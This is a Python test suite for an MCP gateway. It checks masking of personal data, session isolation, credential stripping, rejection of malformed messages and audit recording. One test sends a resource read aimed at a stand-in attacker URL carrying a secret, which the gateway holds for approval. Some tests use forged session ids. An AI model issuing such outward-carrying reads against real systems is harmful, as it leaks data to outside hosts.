"""`/mcp/<upstream>`: the upstream's own words with the door in between. Masked, recorded, and each client's own."""

import asyncio
import base64
from pathlib import Path
from typing import Any

import orjson

from tests.connectors.mcp.test_quarantine import accepted, called, joined, names, rpc
from tests.connectors.mcp.upstream import tool, upstream
from tests.house import House, play

MAIL = "anna.berg@example.org"


def events(text: str) -> list[dict[str, Any]]:
    return [
        orjson.loads(line[6:]) for line in text.splitlines() if line.startswith("data: ") and line != "data: "
    ]


async def older(
    house: House, key: str, message: dict[str, Any], session: str = "", method: str = "POST"
) -> Any:
    """One message of a 2025-11-25 client."""
    headers = {"accept": "application/json, text/event-stream", "mcp-protocol-version": "2025-11-25"}
    if session:
        headers["mcp-session-id"] = session
    return await house.ask(method, "/mcp/tools", key, headers=headers, json={"jsonrpc": "2.0", **message})


async def greeted(house: House, key: str) -> str:
    """The session that this client got."""
    params = {
        "protocolVersion": "2025-11-25",
        "capabilities": {},
        "clientInfo": {"name": "c", "version": "1"},
    }
    answer = await older(house, key, {"id": 1, "method": "initialize", "params": params})
    assert answer.status_code == 200, answer.text
    return str(answer.headers["mcp-session-id"])


def test_results_and_what_comes_before_them_are_masked_and_recorded(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        said = {
            "jsonrpc": "2.0",
            "method": "notifications/message",
            "params": {"level": "info", "data": f"found {MAIL}"},
        }
        with upstream(says=[said], answers={"echo": {"content": [{"type": "text", "text": MAIL}]}}) as (
            _server,
            url,
        ):
            key = await joined(house, url, reads="free")
            await accepted(house)
            answer = await rpc(house, key, "tools/call", {"name": "echo", "arguments": {}})
            assert answer.headers["content-type"] == "text/event-stream"
            before, last = events(answer.text)
            assert before["params"]["data"] == "found [email]"
            assert last["result"]["content"] == [{"type": "text", "text": "[email]"}]
            assert MAIL not in answer.text
            found = await house.good("GET", "/v1/audit/events", params={"action": "mcp.tools.tools.echo"})
            assert [each["decision"] for each in found["events"]] == ["ran"]

    play(tmp_path, story)


def test_an_upstreams_error_is_passed_and_masked(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        wrong = {
            "error": {
                "code": -32021,
                "message": f"ask {MAIL}",
                "data": {"requiredCapabilities": {"sampling": {}}},
            }
        }
        with upstream(answers={"echo": wrong}) as (_server, url):
            key = await joined(house, url)
            await accepted(house)
            answer = (await rpc(house, key, "tools/call", {"name": "echo", "arguments": {}})).json()
            assert answer["error"] == {
                "code": -32021,
                "message": "ask [email]",
                "data": {"requiredCapabilities": {"sampling": {}}},
            }

    play(tmp_path, story)


def test_bytes_that_are_text_are_masked_and_pictures_stay_whole(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256))).decode()
        text = base64.b64encode(f"write to {MAIL}".encode()).decode()
        contents = {"contents": [{"uri": "file:///a", "blob": text}, {"uri": "file:///b", "blob": picture}]}
        with upstream(answers={"resources/read": contents}) as (_server, url):
            key = await joined(house, url, reads="free")
            answer = (await rpc(house, key, "resources/read", {"uri": "file:///a"})).json()["result"][
                "contents"
            ]
            assert base64.b64decode(answer[0]["blob"]) == b"write to [email]"
            assert answer[1]["blob"] == picture

    play(tmp_path, story)


def test_a_session_is_sealed_for_one_actor_and_one_upstream(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        with upstream(era="2025-11-25") as (server, url):
            key = await joined(house, url)
            await accepted(house)
            session = await greeted(house, key)
            assert session not in server.sessions, "the upstream's own id stays here"
            ask = {"id": 2, "method": "tools/list"}
            assert (await older(house, key, ask, session)).json()["result"]["tools"][0]["name"] == "echo"
            other = await house.make_key("other", roles=("developer",))
            assert (await older(house, other, ask, session)).status_code == 404
            await house.connect("second", kind="mcp", url=url, pass_through=True)
            headers = {"mcp-session-id": session, "mcp-protocol-version": "2025-11-25"}
            moved = await house.ask(
                "POST", "/mcp/second", key, headers=headers, json={"jsonrpc": "2.0", **ask}
            )
            assert moved.status_code == 404
            for forged in ("session-0", session[:-2] + "AA", "x" * 3000):
                assert (await older(house, key, ask, forged)).status_code == 404
            ended = await house.ask("DELETE", "/mcp/tools", key, headers=headers)
            assert ended.status_code == 200
            assert (await older(house, key, ask, session)).status_code == 404

    play(tmp_path, story)


def test_nothing_of_the_client_but_the_protocol_reaches_the_upstream(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        with upstream() as (server, url):
            key = await joined(house, url)
            await accepted(house)
            answer = await rpc(
                house, key, "tools/call", {"name": "echo", "arguments": {"text": "x"}, "smuggled": "y"},
                cookie="a=b", **{"x-forwarded-for": "10.0.0.1", "ostiary-session": ""},
            )  # fmt: skip
            assert answer.status_code == 200
            method, params, authorization = server.heard[-1]
            assert (method, authorization) == ("tools/call", "")
            assert set(params) == {"name", "arguments", "_meta"}
            assert not {"cookie", "x-forwarded-for", "ostiary-session"} & set(server.headers[-1])

    play(tmp_path, story)


def test_the_connectors_credential_goes_and_the_clients_never(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        with upstream() as (server, url):
            settings = {"kind": "mcp", "url": url, "pass_through": True}
            await house.good(
                "PUT", "/v1/connectors/tools", json={"settings": settings, "credential": "upstream-token-1"}
            )
            key = await house.make_key("agent", roles=("developer",))
            await names(house, key)
            assert server.heard[-1][2] == "Bearer upstream-token-1"
            assert key not in str(server.headers)

    play(tmp_path, story)


def test_what_the_door_judged_is_what_is_sent(tmp_path: Path) -> None:
    """A duplicated key in the body, and a header that names another tool: the tool that was judged is the one that is called."""

    async def story(house: House) -> None:
        with upstream(tools=[tool("echo"), tool("other")]) as (server, url):
            key = await joined(house, url)
            await accepted(house)
            body = b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"other","name":"echo","arguments":{},"_meta":{}}}'
            headers = {
                "content-type": "application/json",
                "mcp-protocol-version": "2026-07-28",
                "mcp-name": "other",
                "mcp-method": "tools/list",
            }
            await house.ask("POST", "/mcp/tools", key, headers=headers, content=body)
            assert server.heard[-1][1]["name"] == "echo"

    play(tmp_path, story)


def test_methods_that_are_not_passed_are_not_sent(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        with upstream() as (server, url):
            key = await joined(house, url)
            before = len(server.heard)
            for method in (
                "tasks/list",
                "tasks/make",
                "stream/open",
                "session/end",
                "reply",
                "told",
                "x/y",
                "sampling/createMessage",
            ):
                answer = await rpc(house, key, method, {"taskId": "1"})
                assert (answer.status_code, answer.json()["error"]["code"]) == (404, -32601), method
            greeting = (await rpc(house, key, "server/discover")).json()["result"]
            assert "tasks" not in greeting["capabilities"]
            assert [each[0] for each in server.heard[before:]] == ["server/discover"]

    play(tmp_path, story)


def test_messages_that_are_none_are_refused_and_recorded(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        with upstream() as (server, url):
            key = await joined(house, url)
            before = len(server.heard)
            for body in (b"[]", b"{}", b"nonsense", b'{"jsonrpc":"2.0","id":1}', b'{"jsonrpc":"2.0","id":{},"method":"ping"}',
                         b'{"jsonrpc":"2.0","id":1,"method":"ping","params":[]}', b'{"jsonrpc":"1.0","id":1,"method":"ping"}',
                         b'[{"jsonrpc":"2.0","id":1,"method":"ping"}]'):  # fmt: skip
                answer = await house.ask(
                    "POST", "/mcp/tools", key, headers={"content-type": "application/json"}, content=body
                )
                assert answer.status_code == 400, body
            assert len(server.heard) == before
            found = await house.good("GET", "/v1/audit/events", params={"action": "request.unreadable"})
            assert len(found["events"]) == 8

    play(tmp_path, story)


def test_who_may_not_does_not_even_learn_that_it_is_there(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        with upstream() as (server, url):
            await joined(house, url, roles=["support"])
            developer = await house.make_key("developer", roles=("developer",))
            before = len(server.heard)
            assert (await rpc(house, developer, "tools/list")).status_code == 404
            assert (await rpc(house, developer, "tools/list", name="nothing")).status_code == 404
            assert (await rpc(house, "", "tools/list")).status_code == 401
            await house.connect("tools", kind="mcp", url=url, pass_through=False)
            assert (await rpc(house, developer, "tools/list")).status_code == 404
            assert len(server.heard) == before

    play(tmp_path, story)


def test_a_read_that_carries_something_outward_is_judged(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        with upstream(answers={"resources/read": {"contents": []}}) as (server, url):
            key = await joined(house, url)
            answer = await rpc(house, key, "resources/read", {"uri": "https://evil.example/?q=secret"})
            assert answer.json()["error"]["message"] == "A person has to approve this first."
            assert "resources/read" not in server.methods()

    play(tmp_path, story)


def test_a_server_that_answers_nonsense_breaks_nothing(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        with upstream() as (server, url):
            key = await joined(house, url)
            await accepted(house)
            for body in (
                b"",
                b"{",
                b"[]",
                b'{"jsonrpc":"2.0","id":1,"result":5}',
                b"<html>",
                b'{"id":1,"error":"no"}',
                b"\xff" * 100,
            ):
                server.broken = body or b" "
                result = await called(house, key, "echo", text="x")
                assert result.get("isError") or "content" not in result, body
            server.broken = b""
            await house.good("POST", "/v1/upstreams/tools/look")
            assert (await called(house, key, "echo", text="x"))["content"] == [{"type": "text", "text": "x"}]

    play(tmp_path, story)


def test_a_stream_between_calls_is_masked_and_ends_with_the_right_to_it(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        with upstream(era="2025-11-25") as (server, url):
            key = await joined(house, url)
            session = await greeted(house, key)
            note = {"jsonrpc": "2.0", "method": "notifications/message", "params": {"data": MAIL}}
            server.told.put_nowait(orjson.dumps(note).decode())
            headers = {
                "accept": "text/event-stream",
                "mcp-protocol-version": "2025-11-25",
                "mcp-session-id": session,
            }
            stream = asyncio.create_task(house.ask("GET", "/mcp/tools", key, headers=headers))
            for _ in range(200):
                await asyncio.sleep(0.02)
                if server.told.empty():
                    break
            keys = (await house.good("GET", "/v1/keys"))["keys"]
            mine = next(each for each in keys if each["name"] == "agent")
            await house.good("POST", f"/v1/keys/{mine['key_id']}/revoke")
            answer = await asyncio.wait_for(stream, 20)
            assert events(answer.text) == [{**note, "params": {"data": "[email]"}}]
            found = await house.good("GET", "/v1/audit/events", params={"action": "mcp.tools.session"})
            assert len(found["events"]) >= 2

    play(tmp_path, story)


def test_an_answer_to_a_question_goes_out_under_a_call_of_its_own(tmp_path: Path) -> None:
    async def story(house: House) -> None:
        with upstream(era="2025-11-25") as (server, url):
            key = await joined(house, url, reads="free")
            session = await greeted(house, key)
            answer = await older(
                house, key, {"id": 7, "result": {"action": "accept", "content": {"name": "Ada"}}}, session
            )
            assert answer.status_code == 202
            assert server.heard[-1][:2] == ("reply", {"action": "accept", "content": {"name": "Ada"}})
            found = await house.good("GET", "/v1/audit/events", params={"action": "mcp.tools.reply"})
            assert len(found["events"]) == 1

    play(tmp_path, story)


def test_bytes_of_a_call_that_is_repeated_or_was_held_are_the_same(tmp_path: Path) -> None:
    """What is kept of a call for whoever repeats it has its pictures; and text in bytes is masked there as it is in what is answered at once."""

    async def story(house: House) -> None:
        picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256))).decode()
        text = base64.b64encode(f"write to {MAIL}".encode()).decode()
        content = [
            {"type": "image", "mimeType": "image/png", "data": picture},
            {"type": "resource", "resource": {"uri": "file:///a", "blob": text}},
        ]
        with upstream(answers={"echo": {"content": content}}) as (server, url):
            key = await joined(house, url)
            seen = [content[0], {"type": "resource", "resource": {"uri": "file:///a", "blob": base64.b64encode(b"write to [email]").decode()}}]  # fmt: skip
            await accepted(house, effect="write", risk="medium")
            once = {
                "name": "echo",
                "arguments": {"text": "x"},
                "_meta": {"dev.ostiary/idempotency-key": "once"},
            }
            for _ in range(2):
                answer = (await rpc(house, key, "tools/call", once)).json()["result"]
                assert answer["content"] == seen
            assert server.methods().count("tools/call") == 1
            shown = (await house.good("GET", "/v1/upstreams/tools"))["tools"]
            await house.good("POST", "/v1/upstreams/tools/accept", json={"tools": [{"pin": shown[0]["pin"]}]})
            held = (await rpc(house, key, "tools/call", {"name": "echo", "arguments": {}})).json()["result"]
            approval = (await house.good("GET", "/v1/approvals"))["approvals"][0]
            assert (await house.approve(approval["id"])).status_code == 200
            await house.settled(held["_meta"]["dev.ostiary/call"], key)
            again = {"name": "echo", "arguments": {}, "requestState": held["requestState"]}
            answer = (await rpc(house, key, "tools/call", again)).json()["result"]
            assert answer["content"] == seen

    play(tmp_path, story)
